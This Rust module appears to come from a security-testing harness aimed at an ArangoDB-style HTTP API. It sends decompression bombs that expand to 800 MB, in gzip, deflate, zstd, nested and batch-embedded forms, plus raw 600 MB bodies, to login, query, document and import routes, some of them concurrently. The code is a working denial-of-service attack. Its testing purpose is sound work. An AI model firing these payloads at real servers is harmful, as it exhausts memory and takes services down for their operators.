//! Bodies that unpack to 800 MB, and bodies of 600 MB.

use std::io;

use fastrand::Rng;
use harness::http1::Request;

use super::Attack;
use crate::attack::case::{Case, run_cases};
use crate::attack::compressed::{Repeated, nested_gzip};
use crate::attack::target::{COLLECTION, Target};

/// Length of the unpacked bodies.
const PLAIN_BYTES: usize = 800_000_000;

/// Length of the bodies that are not packed.
const LONG_BYTES: usize = 600_000_000;

/// Number of concurrent requests, where there are several.
const AT_ONCE: usize = 4;

/// See the module.
pub(crate) struct Bombs;

/// A route, and a text that is valid there.
struct Place {
    method: &'static str,
    path: String,
    is_open: bool,
    text: Repeated,
}

impl Attack for Bombs {
    fn name(&self) -> &'static str {
        "bombs"
    }

    fn summary(&self) -> &'static str {
        "bodies that unpack to 800 MB, with and without credentials"
    }

    fn run(&self, target: &Target, rng: &mut Rng) -> Result<(), String> {
        let places = places();
        let mut cases = Vec::new();
        for place in &places {
            for encoding in ["gzip", "gzip members", "deflate", "raw deflate", "zstd"] {
                cases.push(Case::new(format!("{encoding} to {}", place.path), move |target, _| {
                    send(target, place, encoding).map_err(|error| error.to_string())
                }));
            }
            cases.push(Case::new(format!("{AT_ONCE} gzip to {}", place.path), |target, _| {
                send_together(target, place);
                Ok(())
            }));
            cases.push(Case::new(format!("600 MB to {}", place.path), |target, _| {
                send_plain(target, place);
                Ok(())
            }));
        }
        cases.push(Case::new("nested gzip to /_open/auth", |target, _| send_nested(target)));
        cases.push(Case::new("gzip in a part of a batch", |target, _| send_part(target)));
        run_cases(target, rng, cases)
    }
}

fn places() -> Vec<Place> {
    let login = Repeated::new("{\"username\":\"root\",\"password\":\"", "a", "\"}", PLAIN_BYTES);
    let document = Repeated::new("{\"text\":\"", "a", "\"}", PLAIN_BYTES);
    let documents = Repeated::new("[{}", ",{\"n\":12345}", "]", PLAIN_BYTES);
    let query = Repeated::new("{\"query\":\"RETURN @a\",\"bindVars\":{\"a\":[1", ",1", "]}}", PLAIN_BYTES);
    let place = |method, path: &str, is_open, text: &Repeated| Place {
        method,
        path: path.to_owned(),
        is_open,
        text: text.clone(),
    };
    vec![
        place("POST", "/_open/auth", true, &login),
        place("POST", "/_open/auth/renew", true, &login),
        place("POST", "/_api/cursor", false, &query),
        place("POST", &format!("/_api/document/{COLLECTION}"), false, &document),
        place("PATCH", &format!("/_api/document/{COLLECTION}"), false, &documents),
        place("POST", &format!("/_api/import?type=list&collection={COLLECTION}"), false, &documents),
        place("POST", "/_api/batch", false, &document),
    ]
}

impl Place {
    fn request(&self, target: &Target) -> Request {
        if self.is_open {
            Request::new(self.method, &self.path)
        } else {
            target.request(self.method, &self.path)
        }
    }
}

/// Sends a packed body. Errors: there is no reply.
fn send(target: &Target, place: &Place, encoding: &str) -> io::Result<()> {
    let (header, body) = match encoding {
        "gzip" => ("gzip", place.text.gzip()),
        "gzip members" => ("gzip", place.text.gzip_members()),
        "zstd" => ("zstd", place.text.zstd()?),
        "deflate" => ("deflate", place.text.zlib()),
        _ => ("deflate", place.text.raw_deflate()),
    };
    let request = place.request(target).header("content-encoding", header).body(body);
    target.ask(&request).map(|_| ())
}

fn send_together(target: &Target, place: &Place) {
    let request = place.request(target).header("content-encoding", "gzip").body(place.text.gzip());
    std::thread::scope(|scope| {
        for _ in 0..AT_ONCE {
            // Errors: it is refused by the end of the connection.
            scope.spawn(|| target.ask(&request));
        }
    });
}

/// Sends what the server takes of a long body.
fn send_plain(target: &Target, place: &Place) {
    let authorization =
        if place.is_open { String::new() } else { format!("authorization: bearer {}\r\n", target.token()) };
    let text = Repeated::new("{\"username\":\"", "a", "\"}", LONG_BYTES);
    let head = format!(
        "{} {} HTTP/1.1\r\nhost: test\r\n{authorization}content-length: {}\r\n\r\n",
        place.method,
        place.path,
        text.plain_bytes()
    );
    let Ok(mut connection) = target.connect() else { return };
    let sent = connection.write(head.as_bytes()).and_then(|()| text.write(|piece| connection.write(piece)));
    if sent.is_ok() {
        // Errors: it is refused by the end of the connection.
        let _ = connection.receive();
    }
}

fn send_nested(target: &Target) -> Result<(), String> {
    let text = Repeated::new("", "a", "", PLAIN_BYTES);
    let request =
        Request::new("POST", "/_open/auth").header("content-encoding", "gzip").body(nested_gzip(&text, 3));
    target.ask(&request).map(|_| ()).map_err(|error| error.to_string())
}

fn send_part(target: &Target) -> Result<(), String> {
    let packed = Repeated::new("{\"text\":\"", "a", "\"}", PLAIN_BYTES).gzip();
    let path = format!("/_api/document/{COLLECTION}");
    let mut body = format!(
        "--X\r\ncontent-type: application/x-arango-batchpart\r\n\r\nPOST {path} HTTP/1.1\r\n\
         content-encoding: gzip\r\ncontent-length: {}\r\n\r\n",
        packed.len()
    )
    .into_bytes();
    body.extend(packed);
    body.extend(b"\r\n--X--\r\n");
    let request =
        target.request("POST", "/_api/batch").header("content-type", "multipart/form-data; boundary=X");
    target.ask(&request.body(body)).map(|_| ()).map_err(|error| error.to_string())
}
